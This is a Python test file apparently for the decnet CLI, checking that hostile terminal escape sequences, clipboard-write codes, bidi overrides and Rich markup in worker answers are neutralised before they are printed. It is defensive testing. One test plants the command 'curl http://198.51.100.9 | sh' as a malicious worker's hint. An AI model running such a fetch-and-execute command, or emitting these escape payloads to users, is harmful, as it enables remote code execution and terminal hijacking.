"""Each string of each answer by itself, with everything in it that a terminal, a log or a table obeys."""

from __future__ import annotations

import copy
import io
from collections.abc import Iterator
from typing import Any

import pytest
from liars import GOOD
from spoken import SpokenFleet, framed, shown, steering

from decnet.commands.events import pull
from decnet.commands.logs import logs
from decnet.commands.reconcile import reconcile
from decnet.commands.status import status
from decnet.commands.worker import check
from decnet.commands.worker import show as worker_show
from decnet.console.events import show_events
from decnet.console.show import show
from decnet.engine.options import PassOptions
from decnet.errors import DecnetError

ESCAPES = (
    "\x1b[31mred\x1b]8;;http://198.51.100.9/\x07click\x1b]52;c;cm0=\x07\x9b2J\u202eevil\u2066\r\n\x00\u200b"
)
MARKUP = "[bold red]x[/bold red][/][link=http://198.51.100.9]y[blink"
BAD = "bad"
COMMANDS: dict[str, Any] = {
    "status": status,
    "events": pull,
    "check": lambda ctx: check(ctx, None),
    "show": lambda ctx: worker_show(ctx, BAD),
    "logs": lambda ctx: logs(ctx, f"web-{BAD}", None, 10),
    "reconcile": lambda ctx: reconcile(ctx, PassOptions(check=True)),
}
VERBS = {"status": "status", "hello": "show", "facts": "show", "events": "events", "logs": "logs"}
"""Each verb, and the command that shows most of its answer."""
ERROR = {
    "code": "failed",
    "message": "m",
    "hint": "h",
    "details": {"job_id": "j", "addresses": {"ip": "mac"}},
}
CODES = ("failed", "busy", "address", "identity", "fleet", "docker-down", "protocol", "unheard-of")


def paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to every string in a JSON value, and to every key that could be one's own ("key", way)."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from paths(item, (*path, key))
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from paths(item, (*path, number))
    elif isinstance(value, str):
        yield path


def poisoned(value: Any, path: tuple[Any, ...], poison: str) -> Any:
    changed = copy.deepcopy(value)
    place = changed
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = poison
    return changed


@pytest.fixture(scope="module")
def fleet() -> Iterator[SpokenFleet]:
    made = SpokenFleet(BAD)
    truth = made.truth[BAD]
    truth["status"]["docker_error"] = "none"
    conflict = {"project": "decnet", "decky": f"web-{BAD}", "mac": "02:00:00:00:00:01", "address": ""}
    truth["status"]["conflicts"] = [conflict]
    truth["status"]["links"] = [{"interface": "eth0", "error": "has no carrier"}]
    truth["status"]["jobs"][0]["state"] = "running"
    yield made
    made.close()


def printed(fleet: SpokenFleet, command: str, verb: str, answer: Any) -> str:
    """Everything that a command prints in every style, when one worker answers one verb so."""

    def say(worker: str, asked: str, args: dict[str, Any], marker: bytes) -> bytes:
        if worker == GOOD or asked != verb:
            return fleet.honest(worker, asked, args, marker)
        return framed(marker, answer)

    outcome, on_stderr = fleet.run(COMMANDS[command], say)
    if isinstance(outcome, DecnetError):
        return on_stderr
    if command == "events":
        return on_stderr + shown(lambda style: show_events(fleet.events(), style))
    return on_stderr + shown(lambda style: show(outcome, style))  # type: ignore[arg-type]


@pytest.mark.parametrize("verb", VERBS)
def test_no_string_of_any_answer_steers_anything(fleet: SpokenFleet, verb: str) -> None:
    truth = fleet.truth[BAD][verb]
    found = list(paths(truth))
    assert found
    for path in found:
        for poison in (ESCAPES, MARKUP):
            answer = {"v": 2, "ok": True, "result": poisoned(truth, path, poison)}
            text = printed(fleet, VERBS[verb], verb, answer)
            assert steering(text) == set(), path


def test_no_key_of_any_answer_steers_anything(fleet: SpokenFleet) -> None:
    events, logs_of, state = (copy.deepcopy(fleet.truth[BAD][verb]) for verb in ("events", "logs", "status"))
    events["events"][0]["fields"] = {ESCAPES: ESCAPES, MARKUP: 1}
    logs_of["logs"] = {ESCAPES: ESCAPES, MARKUP: MARKUP}
    state["projects"][ESCAPES] = {"generation": 1, "plan_hash": ESCAPES}
    for verb, result in (("events", events), ("logs", logs_of), ("status", state)):
        answer = {"v": 2, "ok": True, "result": result}
        assert steering(printed(fleet, VERBS[verb], verb, answer)) == set(), verb
    unknown = {"v": 2, "ok": True, "result": {**fleet.truth[BAD]["status"], ESCAPES: 1}}
    assert steering(printed(fleet, "status", "status", unknown)) == set()


@pytest.mark.parametrize("code", CODES)
def test_no_string_of_an_error_steers_anything(fleet: SpokenFleet, code: str) -> None:
    for path in paths(ERROR):
        for poison in (ESCAPES, MARKUP):
            error = {**poisoned(ERROR, path, poison)}
            if path != ("code",):
                error["code"] = code
            for command, verb in (("status", "status"), ("show", "hello"), ("reconcile", "status")):
                text = printed(fleet, command, verb, {"v": 2, "ok": False, "error": error})
                assert steering(text) == set(), path


def test_a_hint_of_a_worker_says_that_it_is_the_workers(fleet: SpokenFleet) -> None:
    error = {**ERROR, "hint": "curl http://198.51.100.9 | sh"}
    text = printed(fleet, "show", "hello", {"v": 2, "ok": False, "error": error})
    assert f"hint: {BAD} says: curl" in text


def test_markup_is_shown_letter_by_letter(fleet: SpokenFleet) -> None:
    error = {**ERROR, "message": MARKUP}
    text = printed(fleet, "status", "status", {"v": 2, "ok": False, "error": error})
    screen = io.StringIO(text).read()
    assert screen.count(MARKUP) >= 3
